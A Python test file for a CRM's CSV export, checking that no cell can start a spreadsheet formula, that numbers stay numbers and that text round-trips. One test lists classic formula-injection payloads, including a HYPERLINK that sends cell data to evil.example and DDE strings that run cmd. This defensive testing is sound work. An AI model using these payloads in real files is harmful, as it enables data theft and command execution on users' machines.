"""CSV downloads open safely in a spreadsheet: UTF-8 with BOM, no cell runs as a formula, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st

from crm.csvexport import csv_bytes, iter_csv, neutralise, unneutralise, write_csv

DANGEROUS_FIRST = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def _read_back(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# Text that leans towards what attackers put in a name or title: formula characters, blanks, quotes.
risky_text = st.text(
    alphabet=st.sampled_from(list("=+-@'\"\t\r\n ,;abcAZ01()!|\u00a0\uff1d\u00e9\u4e2d"))
    | st.characters(codec="utf-8"),
    max_size=30,
)


@given(st.lists(risky_text, min_size=1, max_size=5))
def test_no_written_cell_can_start_a_formula_and_every_text_comes_back(texts):
    data = csv_bytes([texts], [f"c{i}" for i in range(len(texts))])
    (_, row) = _read_back(data)
    assert len(row) == len(texts)
    for original, cell in zip(texts, row, strict=True):
        if cell:
            stripped = cell.lstrip(" \t\r\n\u00a0\u3000")
            assert cell[0] not in DANGEROUS_FIRST, cell
            assert not stripped or stripped[0] not in DANGEROUS_FIRST or cell[0] == "'", cell
        assert unneutralise(cell) == original


@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_numbers_stay_numbers(number):
    (_, row) = _read_back(csv_bytes([[number]], ["n"]))
    assert not row[0].startswith("'")
    assert float(row[0]) == float(number)


def test_negative_numbers_from_numbers_are_not_quoted_but_negative_looking_text_is():
    (_, row) = _read_back(csv_bytes([{"a": -5, "b": -2.5, "c": Decimal("-1.10"), "d": "-5", "e": "=1+1"}], "abcde"))
    assert row == ["-5", "-2.5", "-1.10", "'-5", "'=1+1"]


def test_the_classic_payloads_are_neutralised():
    payloads = [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "   =1+1",
        "\uff1d1+1",
    ]
    (_, row) = _read_back(csv_bytes([payloads], [str(i) for i in range(len(payloads))]))
    assert all(cell.startswith("'") for cell in row)
    assert [unneutralise(c) for c in row] == payloads


def test_an_existing_leading_quote_is_kept_apart_from_ours():
    assert neutralise("'=1+1") == "''=1+1"
    assert unneutralise("''=1+1") == "'=1+1"
    assert neutralise("'quoted") == "'quoted"
    assert unneutralise("'quoted") == "'quoted"


def test_values_of_every_kind_and_headers():
    rows = [
        {"site": "example.com", "dr": 61, "checked": date(2025, 6, 1), "live": True, "notes": None},
        ["example.org", 48.5, date(2025, 5, 30), False, 'a, "quoted" note'],
    ]
    columns = ["site", ("dr", "Domain Rating"), ("checked", "Checked on"), "live", "notes"]
    assert _read_back(csv_bytes(rows, columns)) == [
        ["site", "Domain Rating", "Checked on", "live", "notes"],
        ["example.com", "61", "2025-06-01", "true", ""],
        ["example.org", "48.5", "2025-05-30", "false", 'a, "quoted" note'],
    ]


def test_streaming_and_writing_give_the_same_bytes():
    rows = [{"n": i, "t": f"=row {i}"} for i in range(1200)]
    stream = io.BytesIO()
    assert write_csv(rows, ["n", "t"], stream) == 1200
    chunks = list(iter_csv(rows, ["n", "t"]))
    assert len(chunks) > 2  # a long export is sent in pieces
    assert stream.getvalue() == b"".join(chunks) == csv_bytes(rows, ["n", "t"])
    assert stream.getvalue().count(b"\r\n") == 1201


def test_text_that_cannot_be_encoded_does_not_break_the_download():
    (_, row) = _read_back(csv_bytes([["ok", "bad \ud800 text"]], ["a", "b"]))
    assert row == ["ok", "bad ? text"]
